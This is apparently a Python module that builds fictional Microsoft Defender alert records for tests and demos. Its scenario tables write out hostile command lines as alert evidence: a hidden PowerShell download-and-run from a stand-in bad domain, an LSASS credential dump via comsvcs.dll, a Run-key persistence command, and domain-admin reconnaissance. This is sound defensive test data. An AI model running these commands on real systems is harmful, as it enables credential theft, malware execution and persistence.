"""Deterministic, realistic Microsoft Graph `security/alerts_v2` alerts for tests and demos.

Every alert is a plain dict shaped exactly like one element of the `value` array Graph
returns from `GET /v1.0/security/alerts_v2` (property names, nesting, nulls, enum spellings
and the 7-digit timestamps, as Microsoft Graph's v1.0 alert and evidence model defines them).

Everything in here is invented: fictional organisations on `.test` domains, RFC 5737 / RFC
3849 documentation addresses for anything on the internet, private ranges for office LANs,
and hashes, ids and SIDs derived from hashing or from the caller's `random.Random`.

Determinism: every random choice comes from the `random.Random` the caller passes (or one
seeded from `seed` and the tenant id), and identities that must stay stable across alerts
of one tenant (a device's mdeDeviceId, a user's SID, a system binary's SHA-256) are derived
by hashing. The same inputs therefore always give byte-identical JSON.

Scenarios are data: `SCENARIOS` is a table of alert kinds per Defender product, each with
its evidence list (`E(...)` rows); `_BUILDERS` turns one evidence row into Graph JSON.
"""
from __future__ import annotations

import copy
import hashlib
import random
import re
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from typing import Any, Callable, Mapping

__all__ = [
    "ALERT_PROPERTIES",
    "GRAPH_ALERTS_CONTEXT",
    "SCENARIOS",
    "comment",
    "graph_time",
    "list_response",
    "make_alert",
    "make_alerts",
    "updated_version",
]

UTC = timezone.utc
GRAPH_ALERTS_CONTEXT = "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2"
_PORTAL = "https://security.microsoft.com"
_NS = "#microsoft.graph.security."
_DOTNET_EPOCH = datetime(1, 1, 1, tzinfo=UTC)

# Wire order of an alert's properties (docs example order, newer SDK-only properties
# slotted where Graph puts them). `categories` is the one property the factory sometimes
# leaves out, because responses of tenants not yet on the newer model lack it.
ALERT_PROPERTIES: tuple[str, ...] = (
    "id",
    "providerAlertId",
    "incidentId",
    "status",
    "severity",
    "classification",
    "determination",
    "serviceSource",
    "detectionSource",
    "productName",
    "detectorId",
    "tenantId",
    "title",
    "description",
    "recommendedActions",
    "category",
    "categories",
    "assignedTo",
    "alertWebUrl",
    "incidentWebUrl",
    "actorDisplayName",
    "threatDisplayName",
    "threatFamilyName",
    "mitreTechniques",
    "createdDateTime",
    "lastUpdateDateTime",
    "resolvedDateTime",
    "firstActivityDateTime",
    "lastActivityDateTime",
    "alertPolicyId",
    "investigationState",
    "additionalData",
    "customDetails",
    "comments",
    "evidence",
    "systemTags",
)

# A new version of an alert keeps its identity and its birth; everything else may change.
_IMMUTABLE = frozenset({"id", "providerAlertId", "tenantId", "createdDateTime", "alertWebUrl"})


# --------------------------------------------------------------------------- time


def graph_time(moment: datetime, tick: int = 0) -> str:
    """`moment` the way Graph writes a DateTimeOffset: UTC, 7 fractional digits, `Z`.

    Graph keeps .NET 100 ns ticks and Python keeps microseconds, so the 7th digit is
    `tick` (0-9). Instants the caller chose get 0, so that parsing the string back gives
    exactly the datetime that was passed in. A naive datetime is taken as UTC.
    """
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    moment = moment.astimezone(UTC)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond:06d}{tick}Z"


def _jitter_time(rng: random.Random, moment: datetime) -> str:
    """A generated instant: random sub-microsecond tick, as real Graph values have."""
    return graph_time(moment, rng.randrange(10))


# --------------------------------------------------------------------------- stable derivations


def _digest(*parts: object) -> bytes:
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).digest()


def _hex_of(length: int, *parts: object) -> str:
    out = ""
    salt = 0
    while len(out) < length:  # chain digests for hashes longer than one SHA-256
        out += _digest(salt, *parts).hex()
        salt += 1
    return out[:length]


def _guid_of(*parts: object) -> str:
    return str(uuid.UUID(bytes=_digest(*parts)[:16], version=4))


def _int_of(low: int, high: int, *parts: object) -> int:
    return low + int.from_bytes(_digest(*parts)[:8], "big") % (high - low + 1)


def _rng_guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _rng_hex(rng: random.Random, length: int) -> str:
    return f"{rng.getrandbits(4 * length):0{length}x}"


def _weighted(rng: random.Random, table: tuple[tuple[Any, int], ...]) -> Any:
    values, weights = zip(*table)
    return rng.choices(values, weights)[0]


# --------------------------------------------------------------------------- organisations


@dataclass(frozen=True)
class _Place:
    """An IP address with the geolocation Graph attaches to ipEvidence."""

    ip: str
    country_code: str | None = None
    country: str | None = None
    city: str | None = None
    state: str | None = None
    latitude: float | None = None
    longitude: float | None = None


@dataclass(frozen=True)
class _Org:
    key: str
    domain: str  # UPN / mail domain
    nt_domain: str
    host_prefix: str
    lan: str  # first two octets of the office LAN
    home: _Place  # the office's internet egress


_ORGS: tuple[_Org, ...] = (
    _Org("contoso", "contoso.test", "CONTOSO", "CTS", "10.20",
         _Place("192.0.2.10", "US", "United States", "Seattle", "Washington", 47.61, -122.33)),
    _Org("fabrikam", "fabrikam.test", "FABRIKAM", "FAB", "10.31",
         _Place("192.0.2.44", "DE", "Germany", "Munich", "Bavaria", 48.14, 11.58)),
    _Org("northwind", "northwindtraders.test", "NORTHWIND", "NWT", "10.42",
         _Place("192.0.2.87", "GB", "United Kingdom", "Leeds", "England", 53.80, -1.55)),
    _Org("adatum", "adatum.test", "ADATUM", "ADT", "10.53",
         _Place("192.0.2.130", "CA", "Canada", "Toronto", "Ontario", 43.65, -79.38)),
    _Org("tailspin", "tailspintoys.test", "TAILSPIN", "TSP", "10.64",
         _Place("192.0.2.171", "AU", "Australia", "Sydney", "New South Wales", -33.87, 151.21)),
    _Org("woodgrove", "woodgrovebank.test", "WOODGROVE", "WGB", "10.75",
         _Place("192.0.2.213", "FR", "France", "Lyon", "Auvergne-Rhone-Alpes", 45.76, 4.84)),
)
_ORG_BY_KEY = {org.key: org for org in _ORGS}

# The demo tenants of examples/demo/generate.py get "their" organisation so the replay data
# reads naturally; any other tenant id gets one picked from a hash of the id.
_TENANT_ORGS = {
    "22222222-2222-4222-8222-222222222222": "contoso",
    "33333333-3333-4333-8333-333333333333": "fabrikam",
    "44444444-4444-4444-8444-444444444444": "northwind",
}


def _org_for(tenant_id: str) -> _Org:
    key = _TENANT_ORGS.get(tenant_id.lower())
    if key:
        return _ORG_BY_KEY[key]
    return _ORGS[_int_of(0, len(_ORGS) - 1, "org", tenant_id.lower())]


# Attacker-side infrastructure: documentation ranges only (RFC 5737, RFC 3849).
_REMOTE_PLACES: tuple[_Place, ...] = (
    _Place("198.51.100.23", "NL", "Netherlands", "Amsterdam", "North Holland", 52.37, 4.89),
    _Place("198.51.100.174", "RO", "Romania", "Bucharest", "Bucharest", 44.43, 26.10),
    _Place("203.0.113.58", "BR", "Brazil", "Sao Paulo", "Sao Paulo", -23.55, -46.63),
    _Place("203.0.113.201", "SG", "Singapore", "Singapore", None, 1.35, 103.82),
    _Place("198.51.100.9", "US", "United States", "Ashburn", "Virginia", 39.04, -77.49),
    _Place("2001:db8:4f2a::17", "DE", "Germany", "Frankfurt am Main", "Hesse", 50.11, 8.68),
    _Place("203.0.113.77", "NG", "Nigeria", "Lagos", "Lagos", 6.52, 3.38),
)

_BAD_DOMAINS: tuple[str, ...] = (
    "cdn-static-update.example.net",
    "docs-share.invoice-portal.test",
    "files.northbridge-delivery.test",
    "login-verify.account-check.test",
    "sync.telemetry-relay.example.org",
)

# --------------------------------------------------------------------------- people and hosts

_PEOPLE: tuple[tuple[str, str], ...] = (
    ("Avery", "Lindqvist"), ("Bongani", "Mthembu"), ("Chiara", "Russo"), ("Dmitri", "Volkov"),
    ("Elif", "Kaya"), ("Farah", "Haddad"), ("Gustavo", "Pereira"), ("Hana", "Kobayashi"),
    ("Ines", "Duarte"), ("Jonas", "Berg"), ("Kavya", "Raman"), ("Liam", "O'Connell"),
    ("Mei", "Zhang"), ("Nadia", "Petrova"), ("Oskar", "Nowak"), ("Priya", "Nair"),
)

# MSSP analysts who take customer alerts (assignedTo / comment authors).
_ANALYSTS: tuple[str, ...] = (
    "n.okafor@mssp-soc.example", "l.moreau@mssp-soc.example", "r.tanaka@mssp-soc.example",
)


@dataclass(frozen=True)
class _Person:
    account: str
    display: str
    upn: str
    sid: str
    aad_id: str
    ad_guid: str


def _person(org: _Org, tenant_id: str, index: int) -> _Person:
    given, surname = _PEOPLE[index]
    account = f"{given}.{surname}".lower().replace("'", "")
    # One domain SID per organisation; RIDs above 1100 as for ordinary domain users.
    domain_sid = "-".join(str(_int_of(10**9, 4 * 10**9, "sid", org.key, n)) for n in range(3))
    return _Person(
        account=account,
        display=f"{given} {surname}",
        upn=f"{account}@{org.domain}",
        sid=f"S-1-5-21-{domain_sid}-{1104 + 3 * index}",
        aad_id=_guid_of("aad-user", tenant_id, account),
        ad_guid=_guid_of("ad-user", tenant_id, account),
    )


# (osPlatform, osBuild, version) as MDE reports them.
_OS_BY_KIND: dict[str, tuple[tuple[str, int, str], ...]] = {
    "workstation": (("Windows11", 22631, "23H2"), ("Windows11", 26100, "24H2"), ("Windows10", 19045, "22H2")),
    "server": (("WindowsServer2022", 20348, "21H2"), ("WindowsServer2019", 17763, "1809")),
    "dc": (("WindowsServer2022", 20348, "21H2"), ("WindowsServer2019", 17763, "1809")),
}
_RBAC_BY_KIND = {"workstation": (1, "Workstations"), "server": (2, "Member servers"), "dc": (3, "Tier 0")}
_HOST_TAGS: dict[str, tuple[tuple[str, ...], ...]] = {
    "workstation": ((), ("Finance",), ()),
    "server": (("Production",),),
    "dc": (("Tier0", "Domain Controller"),),
}
_SERVER_NAMES = ("FS01", "APP02", "SQL01", "WEB03")
_FIRST_ONBOARDING = datetime(2025, 1, 6, tzinfo=UTC)  # devices were onboarded over the 300 days after this


@dataclass(frozen=True)
class _Host:
    name: str
    kind: str
    fqdn: str
    ip: str
    mde_id: str
    aad_id: str | None
    os: tuple[str, int, str]
    first_seen: datetime
    rbac: tuple[int, str]
    tags: tuple[str, ...]
    vm: dict[str, str] | None


def _host(org: _Org, tenant_id: str, name: str, kind: str) -> _Host:
    """A device whose identity is stable for (tenant, name): same mdeDeviceId in every alert."""
    seed = (tenant_id, name)
    octet3 = {"workstation": 8, "server": 2, "dc": 1}[kind]
    rbac_id, rbac_name = _RBAC_BY_KIND[kind]
    vm = None
    if kind == "server":  # member servers run as Azure VMs, so MDE reports vmMetadata
        subscription = _guid_of("sub", tenant_id)
        vm = {
            "vmId": _guid_of("vm", *seed),
            "cloudProvider": "azure",
            "resourceId": f"/subscriptions/{subscription}/resourceGroups/rg-{org.key}-prod"
            f"/providers/Microsoft.Compute/virtualMachines/{name.lower()}",
            "subscriptionId": subscription,
        }
    options = _HOST_TAGS[kind]
    return _Host(
        name=name,
        kind=kind,
        fqdn=f"{name.lower()}.corp.{org.domain}",
        ip=f"{org.lan}.{octet3}.{_int_of(10, 250, 'ip', *seed)}",
        mde_id=_hex_of(40, "mde", *seed),
        aad_id=_guid_of("aad-device", *seed) if kind == "workstation" else None,
        os=_OS_BY_KIND[kind][_int_of(0, len(_OS_BY_KIND[kind]) - 1, "os", *seed)],
        first_seen=_FIRST_ONBOARDING + timedelta(microseconds=_int_of(0, 300 * 86400 * 10**6, "seen", *seed)),
        rbac=(rbac_id + 10 * _ORGS.index(org), rbac_name),
        tags=options[_int_of(0, len(options) - 1, "tags", *seed)],
        vm=vm,
    )


# --------------------------------------------------------------------------- files

# Well-known binaries: (directory, size, publisher). Their hashes are derived from the name
# so that the same cmd.exe carries the same SHA-256 in every alert, as in real data.
_IMAGES: dict[str, tuple[str, int, str]] = {
    "powershell.exe": (r"C:\Windows\System32\WindowsPowerShell\v1.0", 450_560, "Microsoft Corporation"),
    "cmd.exe": (r"C:\Windows\System32", 289_792, "Microsoft Corporation"),
    "rundll32.exe": (r"C:\Windows\System32", 71_680, "Microsoft Corporation"),
    "reg.exe": (r"C:\Windows\System32", 78_848, "Microsoft Corporation"),
    "net.exe": (r"C:\Windows\System32", 57_344, "Microsoft Corporation"),
    "explorer.exe": (r"C:\Windows", 5_517_632, "Microsoft Corporation"),
    "svchost.exe": (r"C:\Windows\System32", 57_360, "Microsoft Corporation"),
    "winword.exe": (r"C:\Program Files\Microsoft Office\root\Office16", 1_934_536, "Microsoft Corporation"),
    "outlook.exe": (r"C:\Program Files\Microsoft Office\root\Office16", 4_117_832, "Microsoft Corporation"),
}


def _file_details(
    name: str, directory: str, size: int | None, publisher: str | None,
    sha1: str | None, sha256: str | None, md5: str | None,
) -> dict[str, Any]:
    return {
        "sha1": sha1,
        "sha256": sha256,
        "fileName": name,
        "filePath": directory,
        "fileSize": size,
        "filePublisher": publisher,
        "signer": None,
        "issuer": None,
        "md5": md5,
        "sha256Ac": None,
    }


def _known_image(name: str, *, hashes: bool = True) -> dict[str, Any]:
    directory, size, publisher = _IMAGES[name]
    if not hashes:  # parent images often come without hashes in real alerts
        return _file_details(name, directory, size, publisher, None, None, None)
    return _file_details(
        name, directory, size, publisher,
        _hex_of(40, "sha1", name), _hex_of(64, "sha256", name), _hex_of(32, "md5", name),
    )


# --------------------------------------------------------------------------- scenarios


@dataclass(frozen=True)
class Ev:
    """One evidence row of a scenario: which builder, and the alertEvidence base values."""

    kind: str  # builder key = the @odata.type stem, e.g. "device" -> deviceEvidence
    roles: tuple[str, ...] = ()
    detailed: tuple[str, ...] = ()
    verdict: str = "unknown"
    remediation: str = "none"
    args: Mapping[str, str] = field(default_factory=dict)


def E(kind: str, *roles: str, detailed: tuple[str, ...] = (), verdict: str = "unknown",
      remediation: str = "none", **args: str) -> Ev:
    """Compact constructor for the scenario tables."""
    return Ev(kind, roles, detailed, verdict, remediation, args)


@dataclass(frozen=True)
class Scenario:
    key: str
    service_source: str
    detection_sources: tuple[str, ...]
    title: str
    description: str
    recommended_actions: str
    category: str
    mitre: tuple[str, ...]
    severities: tuple[str, ...]
    true_positive: str  # determination when an analyst classifies it truePositive
    evidence: tuple[Ev, ...]
    host_kind: str = "workstation"
    threat: tuple[str, str] | None = None  # (threatDisplayName, threatFamilyName)
    actor: str | None = None
    # Template values drawn per alert, in order; later templates may use earlier names.
    variables: tuple[tuple[str, tuple[str, ...]], ...] = ()


MDE = "microsoftDefenderForEndpoint"
MDO = "microsoftDefenderForOffice365"
MDI = "microsoftDefenderForIdentity"
MDCA = "microsoftDefenderForCloudApps"
MDC = "microsoftDefenderForCloud"  # after unknownFutureValue: only sent with the Prefer header

# serviceSource -> (two-letter alert id prefix, productName). "da" and "fa" are what real
# MDE and MDO alert ids start with; the other prefixes are our assumption.
_PRODUCTS: dict[str, tuple[str, str]] = {
    MDE: ("da", "Microsoft Defender for Endpoint"),
    MDO: ("fa", "Microsoft Defender for Office 365"),
    MDI: ("aa", "Microsoft Defender for Identity"),
    MDCA: ("ca", "Microsoft Defender for Cloud Apps"),
    MDC: ("dc", "Microsoft Defender for Cloud"),
    "microsoftSentinel": ("sn", "Microsoft Sentinel"),
    "microsoft365Defender": ("ra", "Microsoft Defender XDR"),
}

# How often each product shows up when the caller does not name one.
_SOURCE_WEIGHTS: tuple[tuple[str, int], ...] = ((MDE, 45), (MDO, 20), (MDI, 13), (MDCA, 18), (MDC, 4))

_USER_TEMP = r"C:\Users\{user}\AppData\Local\Temp"

SCENARIOS: tuple[Scenario, ...] = (
    # ---------------------------------------------------------------- Defender for Endpoint
    Scenario(
        key="mde_office_script_download",
        service_source=MDE,
        detection_sources=("microsoftDefenderForEndpoint",),
        title="Office application started a script that downloaded a file",
        description=(
            "A Microsoft Office application started PowerShell, which downloaded a file from an "
            "external address.\nMalicious documents use this chain to fetch a second-stage payload "
            "once the user enables content."
        ),
        recommended_actions=(
            "1. Find the document that started the chain and how it reached the user.\n"
            "2. Check whether the downloaded file ran and which processes it started.\n"
            "3. Block the download address at the proxy and look for other devices that contacted it.\n"
            "4. Isolate the device if the payload executed."
        ),
        category="Execution",
        mitre=("T1059.001", "T1204.002", "T1105"),
        severities=("medium", "high"),
        true_positive="malware",
        variables=(
            ("payload", (_USER_TEMP + r"\Invoice_0931.exe", _USER_TEMP + r"\remittance_Q4.scr",
                         r"C:\Users\{user}\Downloads\setup_helper.exe")),
            ("url", ("https://{bad_domain}/dl/{token}/{payload_name}", "http://{bad_domain}/s/{token}")),
        ),
        evidence=(
            E("device", "compromised", detailed=("PrimaryDevice",)),
            E("user", detailed=("Logged on user",)),
            E("process", image="powershell.exe", parent="winword.exe",
              cmd="powershell.exe -NoProfile -WindowStyle Hidden -Command \"Invoke-WebRequest -Uri "
                  "'{url}' -OutFile '{payload}'; Start-Process '{payload}'\""),
            E("url", verdict="suspicious", detailed=("Referred in command line",)),
            E("ip", verdict="suspicious", place="remote"),
            E("file", "created", verdict="malicious", file="payload", detailed=("Referred in command line",)),
        ),
    ),
    Scenario(
        key="mde_lsass_dump",
        service_source=MDE,
        detection_sources=("microsoftDefenderForEndpoint",),
        title="Suspicious access to LSASS memory",
        description=(
            "A process read the memory of the Local Security Authority Subsystem Service (lsass.exe) "
            "the way credential dumping tools do. Attackers dump LSASS to collect password hashes and "
            "Kerberos tickets for lateral movement."
        ),
        # The replacement characters mirror how Microsoft's own examples mangle bullets.
        recommended_actions=(
            "Contain the device\n\ufffd\tIsolate the device from the network.\n"
            "\ufffd\tReset the passwords of every account that signed in to the device.\n\n"
            "Investigate\n\ufffd\tReview the device timeline around the alert for other dumping "
            "or remote execution tools.\n\ufffd\tLook for the dump file being copied off the device."
        ),
        category="CredentialAccess",
        mitre=("T1003.001",),
        severities=("high",),
        true_positive="multiStagedAttack",
        host_kind="server",
        variables=(("dump", (r"C:\Users\Public\{token}.dmp", r"C:\Windows\Temp\lsass_{token}.dmp")),),
        evidence=(
            E("device", "compromised", detailed=("PrimaryDevice",)),
            E("user", "compromised"),
            E("process", image="rundll32.exe", parent="cmd.exe",
              cmd=r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass_pid} {dump} full"),
            E("file", "created", verdict="suspicious", file="dump"),
        ),
    ),
    Scenario(
        key="mde_run_key_persistence",
        service_source=MDE,
        detection_sources=("microsoftDefenderForEndpoint", "customDetection"),
        title="Unsigned binary registered to run at sign-in",
        description=(
            "A Run registry value was added that starts an unsigned binary from a user-writable folder "
            "every time the user signs in. Malware uses Run keys to survive reboots."
        ),
        recommended_actions=(
            "- Check who created the Run value and from which process.\n"
            "- Submit the referenced binary for deep analysis.\n"
            "- Remove the value and the binary if they are not part of approved software."
        ),
        category="Persistence",
        mitre=("T1547.001",),
        severities=("low", "medium"),
        true_positive="malware",
        variables=(
            ("payload", (r"C:\Users\{user}\AppData\Roaming\Updater\updsvc.exe",
                         r"C:\ProgramData\SyncHelper\synchelper.exe")),
            ("run_name", ("OneDriveUpdateHelper", "SyncHelper", "AdobeSvcAgent")),
        ),
        evidence=(
            E("device", "compromised", detailed=("PrimaryDevice",)),
            E("user"),
            E("process", image="reg.exe", parent="cmd.exe",
              cmd=r'reg.exe add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v {run_name} '
                  r'/t REG_SZ /d "{payload}" /f'),
            E("registryKey", "edited", hive="HKEY_CURRENT_USER",
              key=r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"),
            E("registryValue", "added", hive="HKEY_CURRENT_USER",
              key=r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run", name="{run_name}", value="{payload}"),
            E("file", verdict="suspicious", file="payload", detailed=("Referred in registry value",)),
        ),
    ),
    Scenario(
        key="mde_av_prevented",
        service_source=MDE,
        detection_sources=("antivirus",),
        title="'Contrivo' malware was prevented",
        description=(
            "Microsoft Defender Antivirus detected a file of the Contrivo family and quarantined it "
            "before it could run."
        ),
        recommended_actions=(
            "1. Confirm the file is quarantined and no related process is running.\n"
            "2. Find out how the file arrived (mail attachment, download, removable media).\n"
            "3. Run a full scan of the device."
        ),
        category="Malware",
        mitre=(),
        severities=("informational", "low"),
        true_positive="malware",
        threat=("Trojan:Win32/Contrivo.A!ml", "Contrivo"),
        variables=(("payload", (r"C:\Users\{user}\Downloads\Statement_{token}.pdf.exe",
                                r"C:\Users\{user}\Downloads\delivery-note.zip\note.js")),),
        evidence=(
            E("device", detailed=("PrimaryDevice",)),
            E("user"),
            E("file", verdict="malicious", remediation="prevented", file="payload", detection="prevented"),
            # Rare type: a mapping without a typed model for it must keep it as "other".
            E("malware", verdict="malicious", remediation="prevented", category="Trojan"),
        ),
    ),
    Scenario(
        key="mde_c2_connection",
        service_source=MDE,
        detection_sources=("microsoftDefenderForEndpoint", "microsoftThreatExperts"),
        title="Connection to a known command-and-control server",
        description=(
            "A process on the device resolved and connected to infrastructure that threat intelligence "
            "associates with command-and-control activity."
        ),
        recommended_actions=(
            "1. Identify the process that made the connection and how it was started.\n"
            "2. Block the domain and address at the perimeter.\n"
            "3. Hunt for the same destination across all devices."
        ),
        category="CommandAndControl",
        mitre=("T1071.001", "T1573.002"),
        severities=("medium", "high"),
        true_positive="apt",
        actor="Storm-9917",  # fictional activity group
        variables=(
            ("payload", (r"C:\ProgramData\Vault\vaultsync.dll", r"C:\Users\{user}\AppData\Local\msvcsync.dll")),
        ),
        evidence=(
            E("device", "compromised", detailed=("PrimaryDevice",)),
            E("process", image="rundll32.exe", parent="explorer.exe",
              cmd="rundll32.exe {payload},DllRegisterServer"),
            E("networkConnection", verdict="malicious"),
            E("dns", verdict="suspicious"),
            E("ip", "commandAndControl", verdict="malicious", place="remote"),
        ),
    ),
    Scenario(
        key="mde_domain_recon",
        service_source=MDE,
        detection_sources=("microsoftDefenderForEndpoint", "customDetection"),
        title="Suspicious sequence of domain reconnaissance commands",
        description=(
            "Several built-in tools were used in quick succession to list domain groups, trusts and "
            "privileged accounts. Attackers map the domain this way after the first foothold."
        ),
        recommended_actions=(
            "Confirm with the user whether the commands were expected.\nIf not, treat the device as "
            "compromised."
        ),
        category="Discovery",
        mitre=("T1087.002", "T1069.002", "T1482"),
        severities=("informational", "low", "medium"),
        true_positive="multiStagedAttack",
        evidence=(
            E("device", detailed=("PrimaryDevice",)),
            E("user"),
            E("process", image="net.exe", parent="cmd.exe", cmd='net.exe group "Domain Admins" /domain'),
        ),
    ),
    # ---------------------------------------------------------------- Defender for Office 365
    Scenario(
        key="mdo_zap_url",
        service_source=MDO,
        detection_sources=("microsoftDefenderForOffice365",),
        title="Email messages containing malicious URL removed after delivery",
        # MDO appends its detector version to descriptions; keep that quirk.
        description=(
            "Messages with a URL that was later found to be malicious were delivered and then removed"
            " by zero-hour auto purge -V1.0.0.4"
        ),
        recommended_actions="",
        category="InitialAccess",
        mitre=("T1566.002",),
        severities=("informational", "medium"),
        true_positive="phishing",
        variables=(("url", ("https://{bad_domain}/secure/review?id={token}", "https://{bad_domain}/o365/{token}")),),
        evidence=(
            E("mailbox", "contextual", who="user"),
            E("analyzedMessage", verdict="malicious", remediation="remediated", location="inbox"),
            E("url", verdict="malicious"),
            E("user", detailed=("Recipient",)),
            E("ip", "source", verdict="suspicious", place="remote"),
        ),
    ),
    Scenario(
        key="mdo_url_click",
        service_source=MDO,
        detection_sources=("microsoftDefenderForOffice365",),
        title="A potentially malicious URL click was detected",
        description="A user opened a link in an email that Safe Links later identified as malicious -V1.0.0.2",
        recommended_actions=(
            "Reset the user's password and revoke their sessions if they entered credentials on the "
            "page."
        ),
        category="InitialAccess",
        mitre=("T1204.001", "T1566.002"),
        severities=("medium", "high"),
        true_positive="phishing",
        variables=(("url", ("https://{bad_domain}/auth/{token}", "https://{bad_domain}/sharepoint/view/{token}")),),
        evidence=(
            E("user", "compromised"),
            E("url", "attacker", verdict="malicious"),
            E("mailbox", who="user"),
            E("analyzedMessage", verdict="malicious", location="inbox"),
            E("ip", place="home"),
        ),
    ),
    Scenario(
        key="mdo_forwarding_rule",
        service_source=MDO,
        detection_sources=("microsoftDefenderForOffice365",),
        title="Suspicious email forwarding rule",
        description="A mailbox rule was created that forwards mail to an external address -V1.0.0.1",
        recommended_actions=(
            "Remove the forwarding rule, review the mailbox audit log and reset the user's "
            "credentials."
        ),
        category="Exfiltration",
        mitre=("T1114.003",),
        severities=("medium",),
        true_positive="compromisedAccount",
        evidence=(
            E("mailbox", "compromised", who="user"),
            E("user", "compromised"),
            E("ip", "attacker", verdict="suspicious", place="remote"),
            E("mailboxConfiguration", verdict="suspicious"),
        ),
    ),
    # ---------------------------------------------------------------- Defender for Identity
    Scenario(
        key="mdi_dcsync",
        service_source=MDI,
        detection_sources=("microsoftDefenderForIdentity",),
        title="Suspected DCSync attack (replication of directory services)",
        description=(
            "{user_display} sent a replication request from {host}, which is not a domain controller, "
            "to {dc}. Attackers replicate directory data to obtain password hashes of any account."
        ),
        recommended_actions="",
        category="CredentialAccess",
        mitre=("T1003.006",),
        severities=("high",),
        true_positive="multiStagedAttack",
        evidence=(
            E("user", "attacker"),
            E("device", "attacker", host="primary"),
            E("device", "attacked", host="dc", detailed=("Destination",)),
            E("ip", "source", place="host"),
        ),
    ),
    Scenario(
        key="mdi_password_spray",
        service_source=MDI,
        detection_sources=("microsoftDefenderForIdentity",),
        title="Suspected password spray attack (LDAP)",
        description="Failed simple bind attempts for several accounts were sent from {host} to {dc}.",
        recommended_actions=(
            "Check the source device for tools that send LDAP binds and reset the passwords of "
            "accounts that were guessed."
        ),
        category="CredentialAccess",
        mitre=("T1110.003",),
        severities=("medium", "high"),
        true_positive="compromisedAccount",
        evidence=(
            E("device", "attacker", host="primary"),
            E("device", "attacked", host="dc"),
            E("user", "attacked", who="user"),
            E("user", "attacked", who="second"),
            E("user", "attacked", who="third"),
            E("ip", "source", place="host"),
        ),
    ),
    Scenario(
        key="mdi_account_enum",
        service_source=MDI,
        detection_sources=("microsoftDefenderForIdentity",),
        title="Account enumeration reconnaissance (LDAP)",
        description="{user_display} on {host} queried the directory for a long list of account names.",
        recommended_actions="",
        category="Discovery",
        mitre=("T1087.002",),
        severities=("low", "medium"),
        true_positive="securityTesting",
        evidence=(
            E("user", "attacker"),
            E("device", "attacker", host="primary"),
            E("ip", "source", place="host"),
        ),
    ),
    # ---------------------------------------------------------------- Defender for Cloud Apps
    Scenario(
        key="mdca_impossible_travel",
        service_source=MDCA,
        detection_sources=("cloudAppSecurity",),
        title="Impossible travel activity",
        description=(
            "{user_display} signed in from {remote_country} shortly after activity from "
            "{home_country}; the two locations are too far apart to travel between in that time."
        ),
        recommended_actions="",
        category="InitialAccess",
        mitre=("T1078.004",),
        severities=("low", "medium", "high"),
        true_positive="compromisedAccount",
        evidence=(
            E("user", "compromised"),
            E("ip", place="home"),
            E("ip", "attacker", verdict="suspicious", place="remote"),
            E("cloudApplication", app="exchange"),
        ),
    ),
    Scenario(
        key="mdca_mass_download",
        service_source=MDCA,
        detection_sources=("cloudAppSecurity",),
        title="Mass download by a single user",
        description=(
            "{user_display} downloaded an unusually large number of files from SharePoint Online in "
            "one session."
        ),
        recommended_actions="Ask the user's manager whether the download was expected and review what was taken.",
        category="Exfiltration",
        mitre=("T1530",),
        severities=("low", "medium"),
        true_positive="maliciousUserActivity",
        evidence=(
            E("user", "suspicious"),
            E("cloudApplication", app="sharepoint"),
            E("ip", place="home"),
        ),
    ),
    Scenario(
        key="mdca_oauth_credentials",
        service_source=MDCA,
        detection_sources=("cloudAppSecurity", "appGovernanceDetection"),
        title="Unusual addition of credentials to an OAuth app",
        description=(
            "{user_display} added a client secret to the application '{oauth_app}', which rarely gets"
            " new credentials."
        ),
        recommended_actions=(
            "Review the app's permissions and recent sign-ins; remove the new credential if it was "
            "not expected."
        ),
        category="Persistence",
        mitre=("T1098.001",),
        severities=("medium", "high"),
        true_positive="compromisedAccount",
        variables=(("oauth_app", ("Invoice Sync Connector", "Team Calendar Bridge", "HR Export Tool")),),
        evidence=(
            E("user", "suspicious"),
            E("oauthApplication", "policyViolator", verdict="suspicious"),
            E("ip", verdict="suspicious", place="remote"),
            E("cloudApplication", app="entra"),
        ),
    ),
    # ---------------------------------------------------------------- Defender for Cloud (newer enum member)
    Scenario(
        key="mdc_storage_anomaly",
        service_source=MDC,
        detection_sources=("microsoftDefenderForStorage",),
        title="Unusual unauthenticated access to a storage blob container",
        description=(
            "The storage account '{resource}' was read anonymously from an address never seen before "
            "for this account."
        ),
        recommended_actions=(
            "Check whether the container should allow public access and rotate the account keys if "
            "data was exposed."
        ),
        category="Collection",
        mitre=("T1530",),
        severities=("low", "medium"),
        true_positive="maliciousUserActivity",
        host_kind="server",
        variables=(("resource", ("st{org}prodfiles", "st{org}backup01")),),
        evidence=(
            E("azureResource", "attacked", kind_="storage"),
            E("ip", "attacker", verdict="suspicious", place="remote"),
        ),
    ),
    Scenario(
        key="mdc_keyvault_secrets",
        service_source=MDC,
        detection_sources=("microsoftDefenderForKeyVault",),
        title="Unusual volume of secret operations in a key vault",
        description=(
            "{user_display} listed and read many secrets of the key vault '{resource}' from an "
            "unfamiliar address."
        ),
        recommended_actions="Rotate the secrets that were read and review the access policies of the vault.",
        category="CredentialAccess",
        mitre=("T1555.006",),
        severities=("medium", "high"),
        true_positive="compromisedAccount",
        host_kind="server",
        variables=(("resource", ("kv-{org}-prod", "kv-{org}-apps")),),
        evidence=(
            E("azureResource", "attacked", kind_="keyvault"),
            E("user", "suspicious"),
            E("ip", "attacker", verdict="suspicious", place="remote"),
        ),
    ),
)

# Detection sources for a serviceSource that no scenario covers (the caller named it):
# the scenario's content is reused under that source.
_FALLBACK_DETECTION = {"microsoftSentinel": "scheduledAlerts", "microsoft365Defender": "microsoft365Defender"}

# --------------------------------------------------------------------------- lifecycle tables

_STATUS_WEIGHTS: tuple[tuple[str, int], ...] = (("new", 55), ("inProgress", 25), ("resolved", 20))

# How long before its last update an alert of a given status was created (seconds).
_AGE_BY_STATUS: dict[str, tuple[float, float]] = {
    "new": (20, 15 * 60),
    "inProgress": (10 * 60, 10 * 3600),
    "resolved": (30 * 60, 30 * 3600),
}

# (classification, determination or None for the scenario's true-positive determination)
